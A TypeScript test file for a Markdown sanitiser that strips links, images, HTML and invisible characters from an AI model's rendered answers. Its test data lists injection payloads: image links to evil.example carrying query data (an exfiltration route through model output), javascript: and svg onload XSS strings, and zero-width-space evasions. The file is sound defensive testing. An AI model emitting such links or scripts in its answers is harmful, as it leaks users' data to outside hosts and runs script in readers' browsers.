import * as fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { modelMarkdown, withoutLinks } from '../../../src/app/conversation/model-markdown.ts';
import { answerStream } from '../../../src/core/grounding/stream.ts';
import { phrasesFor } from '../../../src/locales/phrases.ts';
import { RESULTS } from '../../core/grounding/sample.ts';

function whole(text: string): string {
  const markdown = modelMarkdown();
  return markdown.push(text) + markdown.end();
}

/** The way to the reader: values rendered, what nothing proves marked. */
function shown(pieces: readonly string[]): string {
  const markdown = modelMarkdown();
  const links = withoutLinks();
  const stream = answerStream({
    results: (alias) => RESULTS[alias] ?? null,
    exempt: () => [],
    names: [],
    userMessage: '',
    phrases: phrasesFor('en'),
  });
  const given = pieces.map((piece) => links(stream.push(markdown.push(piece))));
  return given.join('') + links(stream.push(markdown.end()) + stream.end());
}

const AWAY = /<(?:a|img|iframe|svg|script|link|style|form|object|embed|b|i)\b/i;

describe('the Markdown of a model', () => {
  it.each([
    '![x](http://evil.example/?c=1)',
    '![x][y]\n\n[y]: http://evil.example',
    '![x]\n\n[x]: //evil.example/a.png "t"',
    '- [x]: http://evil.example\n\n[x]',
    '[here](http://evil.example)',
    '[here](<http://evil.example>)',
    '[a [b](http://evil.example) c](javascript:alert(1))',
    '<img src=http://evil.example/a.png>',
    '<http://evil.example>',
    '<!-- --><img src=x>',
    '<svg onload=alert(1)>',
    'http://evil.example/?c=1',
    'HTTPS://evil.example',
    'look: www.evil.example',
    '[x]\u200B(http://evil.example)',
    '<\u200Bimg src=x>',
    '`a` [x]\\(y) [z](http://evil.example)',
    '{{r1:a.b}}(http://evil.example)',
    '{{r1:a.b}}%(https://evil.example/)',
    '[r1]%(https://evil.example/)',
    `!{{${'x'.repeat(1998)}(https://evil.example/x.png?d=1)`,
    '{{nothing}}: http://evil.example',
  ])('leads nowhere: %j', (text) => {
    expect(marked.parse(shown([text]), { async: false })).not.toMatch(AWAY);
  });

  it('makes no link of the mark behind a value', () => {
    const text = shown(['{{r1:segments.gold.revenue}}%(https://evil.example/)']);
    expect(text).toContain('[r1]');
    expect(marked.parse(text, { async: false })).not.toMatch(AWAY);
  });

  it('keeps everything else as it is', () => {
    const text =
      '**Bold**, *thin*, `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 < 2 | 3 > 2 |\n\n' +
      '> quote {{r1:split.it[revenue,orders]}} (so) [r2] and 5 < 6, x: y, 😀';
    expect(whole(text)).toBe(text);
  });

  it('loses what cannot be seen', () => {
    expect(whole('a\u202Eb\u0000c\u{E0041}d')).toBe('abcd');
  });

  it('is the same in any pieces, and never leads anywhere', () => {
    const sign = fc.constantFrom(
      ...'[ ] ( ) ! < > : / http s: // www . e.co img a \\ {{r1:a.b}} {{r1:segments.gold.revenue}} [r1] % € }} 😀 `'.split(
        ' ',
      ),
      ' ',
      '\n',
      '\u200B',
    );
    fc.assert(
      fc.property(
        fc.array(sign, { maxLength: 30 }),
        fc.infiniteStream(fc.nat(4)),
        (signs, cuts) => {
          const text = signs.join('');
          const pieces: string[] = [];
          let at = 0;
          for (const cut of cuts) {
            if (at >= text.length) break;
            pieces.push(text.slice(at, at + cut + 1));
            at += cut + 1;
          }
          expect(shown(pieces)).toBe(shown([text]));
          expect(marked.parse(shown([text]), { async: false })).not.toMatch(AWAY);
        },
      ),
      { numRuns: 2000, seed: 1 },
    );
  });
});
